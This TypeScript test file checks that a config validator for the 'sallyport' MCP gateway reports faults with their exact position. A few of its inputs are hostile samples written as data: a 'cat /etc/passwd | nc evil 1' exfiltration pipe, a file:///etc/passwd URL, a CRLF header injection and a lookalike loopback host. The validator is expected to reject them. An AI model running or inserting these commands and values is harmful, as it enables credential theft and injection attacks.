// biome-ignore-all lint/suspicious/noTemplateCurlyInString: references are written like this in the file
import { describe, expect, test } from 'vitest'
import type { ConfigRule } from './fault.ts'
import { parseConfig } from './load.ts'
import { FILE, faultsOf, parse } from './testing/parse.ts'

interface Case {
  readonly what: string
  readonly text: string
  readonly rule: ConfigRule
  /** line:column */
  readonly at: string
  readonly path: string
  readonly says: RegExp
  readonly file?: string
}

const JSON_FILE = '/home/ada/sallyport.json'
const JSONC_FILE = '/home/ada/sallyport.jsonc'

/** A file with one server, whose entry starts on line 4. */
const server = (...lines: string[]) =>
  ['version: 1', 'servers:', '  files:', ...lines.map((line) => `    ${line}`)].join('\n')

// biome-ignore format: a table is read by its lines
const CASES: readonly Case[] = [
  { what: 'an empty file', text: '', rule: 'config/syntax', at: '1:1', path: '', says: /is empty: start with/ },
  { what: 'a file of comments', text: '# soon', rule: 'config/syntax', at: '1:1', path: '', says: /is empty/ },
  { what: 'no version', text: 'profile: strict', rule: 'config/missing-key', at: '1:1', path: '', says: /lacks "version"/ },
  { what: 'another version', text: 'version: 2', rule: 'config/value', at: '1:10', path: '/version', says: /must be 1/ },
  { what: 'a version as text', text: 'version: "1"', rule: 'config/type', at: '1:10', path: '/version', says: /must be 1, not a text/ },
  { what: 'a list as file', text: '- version: 1', rule: 'config/type', at: '1:1', path: '', says: /must be a map/ },
  { what: 'an unknown key', text: 'version: 1\nprofle: strict', rule: 'config/unknown-key', at: '2:1', path: '/profle', says: /did you mean "profile"\?/ },
  { what: 'a key other programs use', text: server('command: x', 'timeout: 5s'), rule: 'config/unknown-key', at: '5:5', path: '/servers/files/timeout', says: /did you mean "deadline"\?/ },
  { what: 'the name hosts use', text: 'version: 1\nmcpServers: {}', rule: 'config/unknown-key', at: '2:1', path: '/mcpServers', says: /did you mean "servers"\?/ },
  { what: 'a key of a later version', text: 'version: 1\nsandbox: {}', rule: 'config/unknown-key', at: '2:1', path: '/sandbox', says: /it knows .*servers/ },
  { what: 'a merge key', text: 'version: 1\n<<: { profile: strict }', rule: 'config/unknown-key', at: '2:1', path: '/<<', says: /no key "<<"/ },
  { what: 'a section left empty', text: 'version: 1\nservers:', rule: 'config/type', at: '2:9', path: '/servers', says: /not empty/ },
  { what: 'a wrong choice', text: 'version: 1\nprofile: strickt', rule: 'config/value', at: '2:10', path: '/profile', says: /one of observe, balanced, strict: did you mean "strict"/ },
  { what: 'a number as text', text: 'version: 1\nlimits: { maxDepth: "64" }', rule: 'config/type', at: '2:21', path: '/limits/maxDepth', says: /not a text: write it without quotes/ },
  { what: 'a number out of bounds', text: 'version: 1\nlimits: { maxDepth: 100000 }', rule: 'config/value', at: '2:21', path: '/limits/maxDepth', says: /from 8 to 1000/ },
  { what: 'a fraction', text: 'version: 1\nlimits: { maxDepth: 64.5 }', rule: 'config/value', at: '2:21', path: '/limits/maxDepth', says: /whole number/ },
  { what: 'a YAML 1.1 truth', text: server('command: x', 'enabled: no'), rule: 'config/type', at: '5:14', path: '/servers/files/enabled', says: /true or false, not a text/ },
  { what: 'a duration without unit', text: server('command: x', 'deadline: 60'), rule: 'config/type', at: '5:15', path: '/servers/files/deadline', says: /not a number: write a whole number and a unit/ },
  { what: 'a duration with a strange unit', text: server('command: x', 'deadline: 60sec'), rule: 'config/value', at: '5:15', path: '/servers/files/deadline', says: /such as "30s"/ },
  { what: 'a duration no timer can keep', text: server('command: x', 'deadline: 30d'), rule: 'config/range', at: '5:15', path: '/servers/files/deadline', says: /from 100ms to 24h/ },
  { what: 'a rate without window', text: server('command: x', 'rate: "60"'), rule: 'config/value', at: '5:11', path: '/servers/files/rate', says: /names no window: write it as "60\/min"/ },
  { what: 'a rate that is a number', text: server('command: x', 'rate: 60'), rule: 'config/type', at: '5:11', path: '/servers/files/rate', says: /not a number/ },
  { what: 'a rate in words', text: server('command: x', 'totalRate: 60 per minute'), rule: 'config/value', at: '5:16', path: '/servers/files/totalRate', says: /write it as "60\/min"/ },
  { what: 'a rate that lets nothing through', text: 'version: 1\nlimits: { rate: 0/min }', rule: 'config/value', at: '2:17', path: '/limits/rate', says: /lets nothing through/ },
  { what: 'a rate nobody can count', text: 'version: 1\ndefaults: { rate: 200000/s }', rule: 'config/range', at: '2:19', path: '/defaults/rate', says: /more than 100000 calls/ },
  { what: 'a window of more than a day', text: server('command: x', 'rate: 10/2d'), rule: 'config/range', at: '5:11', path: '/servers/files/rate', says: /at most 1d/ },
  { what: 'no call at a time', text: server('command: x', 'maxInFlight: 0'), rule: 'config/value', at: '5:18', path: '/servers/files/maxInFlight', says: /from 1 to/ },
  { what: 'a circuit that opens for nothing', text: server('command: x', 'circuit: { failures: 0 }'), rule: 'config/value', at: '5:26', path: '/servers/files/circuit/failures', says: /from 1 to/ },
  { what: 'a cap below the deadline', text: server('command: x', 'deadlineCap: 30s'), rule: 'config/range', at: '5:18', path: '/servers/files/deadlineCap', says: /less than the deadline of "files", 1m/ },
  { what: 'a default cap below a deadline', text: 'version: 1\ndefaults: { deadlineCap: 30s }\nservers: { a: { command: x } }', rule: 'config/range', at: '2:26', path: '/defaults/deadlineCap', says: /defaults.deadlineCap is less than the deadline of "a"/ },
  { what: 'a size without unit', text: server('command: x', 'maxResult: "100"'), rule: 'config/value', at: '5:16', path: '/servers/files/maxResult', says: /such as "4MiB"/ },
  { what: 'a size out of bounds', text: server('command: x', 'maxResult: 1B'), rule: 'config/range', at: '5:16', path: '/servers/files/maxResult', says: /from 1KiB/ },
  { what: 'an empty allow-list', text: 'version: 1\nmethods: { allow: [] }', rule: 'config/value', at: '2:19', path: '/methods/allow', says: /could be read as "nothing" or as "everything"/ },
  { what: 'a server without command or url', text: server('trust: partial'), rule: 'config/missing-key', at: '3:3', path: '/servers/files', says: /lacks "command" or "url"/ },
  { what: 'a server with both', text: server('command: x', 'url: https://x.example/'), rule: 'config/together', at: '3:3', path: '/servers/files', says: /keep one/ },
  { what: 'headers without url', text: server('command: x', 'headers: { A: b }'), rule: 'config/together', at: '5:5', path: '/servers/files/headers', says: /only together with "url"/ },
  { what: 'a server id with a capital', text: 'version: 1\nservers:\n  Files: { command: x }', rule: 'config/value', at: '3:3', path: '/servers/Files', says: /write it as "files"/ },
  { what: 'a server id with a separator', text: 'version: 1\nservers:\n  a__b: { command: x }', rule: 'config/value', at: '3:3', path: '/servers/a__b', says: /write it as "a_b"/ },
  { what: 'the gateway’s own id', text: 'version: 1\nservers:\n  gate: { command: x }', rule: 'config/value', at: '3:3', path: '/servers/gate', says: /is reserved/ },
  { what: 'the id of all servers', text: 'version: 1\nservers:\n  all: { command: x }', rule: 'config/value', at: '3:3', path: '/servers/all', says: /is reserved/ },
  { what: 'a pipe', text: server('command: cat /etc/passwd | nc evil 1'), rule: 'config/command', at: '4:14', path: '/servers/files/command', says: /uses "\|".*no shell runs/ },
  { what: 'an empty command list', text: server('command: []'), rule: 'config/value', at: '4:14', path: '/servers/files/command', says: /names no program/ },
  { what: 'a reference in an argument', text: server('command: x', 'args: ["--token", "${env:T}"]'), rule: 'config/reference', at: '5:23', path: '/servers/files/args/1', says: /only in env, headers and keys for secrets/ },
  { what: 'a reference without a field', text: server('command: x', 'env: { A: "${vault:secret/a}" }'), rule: 'config/reference', at: '5:15', path: '/servers/files/env/A', says: /without a path and a field/ },
  { what: 'a path out of the mount', text: server('command: x', 'env: { A: "${vault:secret/../sys#a}" }'), rule: 'config/reference', at: '5:15', path: '/servers/files/env/A', says: /without a path and a field/ },
  { what: 'a vault in the clear', text: 'version: 1\nsecrets: { vault: { address: "http://vault.example:8200" } }', rule: 'config/value', at: '2:30', path: '/secrets/vault/address', says: /https/ },
  { what: 'a program without words', text: 'version: 1\nsecrets: { exec: { a: { command: [] } } }', rule: 'config/value', at: '2:34', path: '/secrets/exec/a/command', says: /names the program/ },
  { what: 'a variable of a shell', text: server('command: x', 'env: { A: "${HOME}" }'), rule: 'config/reference', at: '5:15', path: '/servers/files/env/A', says: /write \$\{env:HOME\}/ },
  { what: 'a variable of the gateway itself', text: server('command: x', 'env: { SALLYPORT_X: a }'), rule: 'config/value', at: '5:12', path: '/servers/files/env/SALLYPORT_X', says: /is reserved/ },
  { what: 'an address that does not parse', text: server('url: https://x.example:a/'), rule: 'config/url', at: '4:10', path: '/servers/files/url', says: /no address/ },
  { what: 'a condition that does not parse', text: 'version: 1\nrules: [{ when: "tool.name ==", do: deny }]', rule: 'config/rule', at: '2:17', path: '/rules/0/when', says: /Unexpected token.*character 13/ },
  { what: 'a condition over something that there is not', text: 'version: 1\nrules: [{ when: session.user == "x", do: deny }]', rule: 'config/rule', at: '2:17', path: '/rules/0/when', says: /Unknown variable: session/ },
  { what: 'a condition that is no question', text: 'version: 1\nrules: [{ when: tool.name, do: deny }]', rule: 'config/rule', at: '2:17', path: '/rules/0/when', says: /gives string/ },
  { what: 'a pattern that could take for ever', text: `version: 1\nrules: [{ when: 'args.a.matches("(a)\\\\1")', do: deny }]`, rule: 'config/rule', at: '2:17', path: '/rules/0/when', says: /refers back/ },
  { what: 'an empty allow-list', text: server('command: x', 'tools: { allow: [] }'), rule: 'config/value', at: '5:21', path: '/servers/files/tools/allow', says: /nothing|everything/ },
  { what: 'a principal without its issuer', text: 'version: 1\naccess: [{ principals: [ada] }]', rule: 'config/value', at: '2:25', path: '/access/0/principals/0', says: /ISSUER SUBJECT/ },
  { what: 'an address without scheme', text: server('url: x.example/mcp'), rule: 'config/value', at: '4:10', path: '/servers/files/url', says: /put https:\/\/ in front/ },
  { what: 'a file address', text: server('url: file:///etc/passwd'), rule: 'config/value', at: '4:10', path: '/servers/files/url', says: /http:\/\/ or https/ },
  { what: 'a header of the protocol', text: server('url: https://x.example/', 'headers: { Mcp-Session-Id: a }'), rule: 'config/header', at: '5:16', path: '/servers/files/headers/Mcp-Session-Id', says: /set by the gateway/ },
  { what: 'a header twice in other case', text: server('url: https://x.example/', 'headers: { X-A: a, x-a: b }'), rule: 'config/header', at: '5:24', path: '/servers/files/headers/x-a', says: /same header as "X-A"/ },
  { what: 'a header value with a line break', text: server('url: https://x.example/', 'headers: { X-A: "a\\r\\nB: c" }'), rule: 'config/value', at: '5:21', path: '/servers/files/headers/X-A', says: /printable ASCII/ },
  { what: 'listening for everyone', text: 'version: 1\nlisten: { http: "0.0.0.0:7337" }', rule: 'config/open-door', at: '2:17', path: '/listen/http', says: /can be reached from other machines, and nothing says who may come in/ },
  { what: 'a name that only begins like loopback', text: 'version: 1\nlisten: { http: "127.0.0.1.evil.example:80" }', rule: 'config/value', at: '2:17', path: '/listen/http', says: /must be an address of this machine/ },
  { what: 'a port that is none', text: 'version: 1\nlisten: { http: "127.0.0.1:70000" }', rule: 'config/value', at: '2:17', path: '/listen/http', says: /a port, such as/ },
  { what: 'listening for everyone with sign-in and without TLS', text: 'version: 1\nauth: { publicUrl: "https://gate.example", keys: {} }\nlisten: { http: "0.0.0.0:7337" }', rule: 'config/open-door', at: '3:17', path: '/listen/http', says: /without TLS/ },
  { what: 'a certificate for this machine where others come', text: 'version: 1\nauth: { publicUrl: "https://gate.example", keys: {} }\nlisten: { http: "0.0.0.0:7337", localTls: true }', rule: 'config/open-door', at: '3:43', path: '/listen/localTls', says: /this machine alone/ },
  { what: 'an issuer that comes twice', text: 'version: 1\nauth:\n  issuers:\n    - issuer: https://idp.example\n    - issuer: https://idp.example', rule: 'config/together', at: '5:15', path: '/auth/issuers/1/issuer', says: /is auth.issuers\[0\] again/ },
  { what: 'two issuers that are asked about opaque tokens', text: 'version: 1\nauth:\n  issuers:\n    - { issuer: "https://a.example", introspection: { url: "https://a.example/i", clientId: g, clientSecret: "${env:A}" } }\n    - { issuer: "https://b.example", introspection: { url: "https://b.example/i", clientId: g, clientSecret: "${env:B}" } }', rule: 'config/together', at: '5:53', path: '/auth/issuers/1/introspection', says: /would be shown the opaque tokens/ },
  { what: 'an issuer over plain HTTP', text: 'version: 1\nauth: { issuers: [{ issuer: "http://idp.example" }] }', rule: 'config/url', at: '2:29', path: '/auth/issuers/0/issuer', says: /must be an https/ },
  { what: 'a secret of an issuer that is no reference', text: 'version: 1\nauth: { issuers: [{ issuer: "https://idp.example", introspection: { url: "https://idp.example/i", clientId: g, clientSecret: abc } }] }', rule: 'config/value', at: '2:126', path: '/auth/issuers/0/introspection/clientSecret', says: /must be a reference/ },
  { what: 'a text around the secret of a client', text: 'version: 1\nauth: { server: { clients: { ci: { secret: "Bearer ${keychain:X}" } } } }', rule: 'config/value', at: '2:44', path: '/auth/server/clients/ci/secret', says: /must be a reference to a secret.* and nothing else/ },
  { what: 'a reference to nowhere', text: 'version: 1\nauth: { server: { clients: { ci: { secret: "${store:X}" } } } }', rule: 'config/reference', at: '2:44', path: '/auth/server/clients/ci/secret', says: /begins no known reference/ },
  { what: 'signing in at a server over plain HTTP', text: 'version: 1\nservers:\n  web: { url: "https://web.example/mcp", oauth: { issuer: "http://idp.example" } }', rule: 'config/url', at: '3:59', path: '/servers/web/oauth/issuer', says: /must be an https/ },
  { what: 'a door that nobody can come in by', text: 'version: 1\nauth: { scopes: { pg: {} } }', rule: 'config/open-door', at: '2:7', path: '/auth', says: /no way in: nobody could connect: add "server: \{\}"/ },
  { what: 'an address for tokens that is not https', text: 'version: 1\nauth: { publicUrl: "http://gate.example", keys: {} }', rule: 'config/open-door', at: '2:20', path: '/auth/publicUrl', says: /must be https/ },
  { what: 'a proxy that is no address', text: 'version: 1\nlisten: { trustedProxies: ["10.0.0.0/33"] }', rule: 'config/range', at: '2:28', path: '/listen/trustedProxies/0', says: /no range/ },
  { what: 'any web page', text: 'version: 1\nlisten: { allowedOrigins: ["*"] }', rule: 'config/value', at: '2:28', path: '/listen/allowedOrigins/0', says: /any web page/ },
  { what: 'a host wildcard', text: 'version: 1\nlisten: { allowedHosts: ["*.example"] }', rule: 'config/value', at: '2:26', path: '/listen/allowedHosts/0', says: /wildcards/ },
  { what: 'a token for every server', text: 'version: 1\ndefaults: { env: [PATH, GITHUB_TOKEN] }', rule: 'config/secret', at: '2:25', path: '/defaults/env/1', says: /to every server.*in its env/ },
  { what: 'a literal secret', text: server('command: x', 'env: { API_TOKEN: correct-horse }'), rule: 'config/secret', at: '5:12', path: '/servers/files/env/API_TOKEN', says: /run "sallyport secrets set API_TOKEN".* and write \$\{keychain:API_TOKEN\} here \(or \$\{env:API_TOKEN\}/ },
  { what: 'a key twice', text: 'version: 1\nprofile: strict\nprofile: observe', rule: 'config/duplicate-key', at: '3:1', path: '/profile', says: /given twice: first at line 2, column 1/ },
  { what: 'a key twice, once escaped', text: 'version: 1\nprofile: strict\n"prof\\u0069le": observe', rule: 'config/duplicate-key', at: '3:1', path: '/profile', says: /given twice/ },
  { what: 'a server twice', text: 'version: 1\nservers:\n  a: { command: x }\n  a: { command: y }', rule: 'config/duplicate-key', at: '4:3', path: '/servers/a', says: /first at line 3, column 3/ },
  { what: 'a key twice in JSON', text: '{\n "version": 1,\n "version": 1 }', file: JSON_FILE, rule: 'config/duplicate-key', at: '3:2', path: '/version', says: /first at line 2, column 2/ },
  { what: 'a tag', text: 'version: !!int "1"', rule: 'config/syntax', at: '1:16', path: '/version', says: /tags/ },
  { what: 'a custom tag', text: 'version: 1\nprofile: !!js/function "x"', rule: 'config/syntax', at: '2:24', path: '/profile', says: /tags/ },
  { what: 'another YAML version', text: '%YAML 1.1\n---\nversion: 1', rule: 'config/syntax', at: '1:1', path: '', says: /%YAML directive/ },
  { what: 'a second document', text: 'version: 1\n---\nversion: 1', rule: 'config/syntax', at: '2:1', path: '', says: /one document/ },
  { what: 'an alias of nothing', text: 'version: 1\nservers: *a', rule: 'config/syntax', at: '2:10', path: '', says: /no anchor/ },
  { what: 'a list as key', text: 'version: 1\n? [a]\n: b', rule: 'config/syntax', at: '2:3', path: '', says: /plain text/ },
  { what: 'a tab as indent', text: 'version: 1\nlog:\n\tlevel: info', rule: 'config/syntax', at: '3:1', path: '', says: /spaces, not with tabs/ },
  { what: 'an open quote', text: 'version: 1\nprofile: "strict', rule: 'config/syntax', at: '2:17', path: '', says: /missing/ },
  { what: 'a bad indent', text: 'version: 1\nlog:\n   level: info\n  format: json', rule: 'config/syntax', at: '4:1', path: '', says: /indentation|belong/ },
  { what: 'a comment in JSON', text: '{ "version": 1 } // x', file: JSON_FILE, rule: 'config/syntax', at: '1:18', path: '', says: /no comments: name the file \.jsonc/ },
  { what: 'a trailing comma in JSON', text: '{ "version": 1,\n}', file: JSON_FILE, rule: 'config/syntax', at: '1:15', path: '', says: /trailing comma/ },
  { what: 'a text without quotes in JSON', text: '{ "version": one }', file: JSONC_FILE, rule: 'config/syntax', at: '1:14', path: '', says: /double quotes/ },
  { what: 'a missing comma in JSON', text: '{ "version": 1\n  "profile": "strict" }', file: JSONC_FILE, rule: 'config/syntax', at: '2:3', path: '', says: /comma or \} is missing/ },
  { what: 'something after the end in JSON', text: '{ "version": 1 } {}', file: JSONC_FILE, rule: 'config/syntax', at: '1:18', path: '', says: /goes on after its end/ },
]

describe('what is wrong is said with its exact place', () => {
  test.each(CASES)('$what', ({ text, rule, at, path, says, file = FILE }) => {
    const result = parse(text, file)
    if (result.ok) throw new Error('it was accepted')
    const fault = result.error.faults.find((each) => each.rule === rule)
    expect(fault, result.error.message).toBeDefined()
    expect(`${fault?.line}:${fault?.column}`).toBe(at)
    expect(fault?.path).toBe(path)
    expect(result.error.message).toMatch(says)
    for (const line of result.error.message.split('\n'))
      expect(line.endsWith(`${file}:${line.match(/(\d+:\d+)$/)?.[1]}`)).toBe(true)
  })

  test('all faults are told at once, in the order of the file', () => {
    const faults = faultsOf(
      [
        'version: 1',
        'profle: x',
        'servers:',
        '  A: { command: "a | b", deadline: 5 }',
        'limits: { maxKeys: "1" }',
      ].join('\n'),
    )
    expect(faults.map(({ rule, line }) => `${line} ${rule}`)).toEqual([
      '2 config/unknown-key',
      '4 config/value',
      '4 config/command',
      '4 config/type',
      '5 config/type',
    ])
  })

  test('a file that is not UTF-8 is refused where it is not', () => {
    const bytes = Buffer.concat([
      Buffer.from('version: 1\nprofile: "a'),
      Buffer.from([0xc3, 0x28]),
      Buffer.from('"'),
    ])
    const broken = parseConfig(bytes, '/x/sallyport.yaml', { env: {}, homeDir: '/' })
    expect(broken.ok ? '' : broken.error.message).toBe(
      'the file is not UTF-8: save it in UTF-8 at /x/sallyport.yaml:2:12',
    )
  })

  test('no message carries control characters of the file', () => {
    const [fault] = faultsOf('version: 1\n"\\e[2J\\u202e": 1')
    expect(fault?.rule).toBe('config/unknown-key')
    const result = parse('version: 1\n"\\e[2J\\u202e": 1')
    expect(result.ok ? '' : result.error.message).not.toMatch(/\p{Cc}|\p{Cf}/u)
  })
})
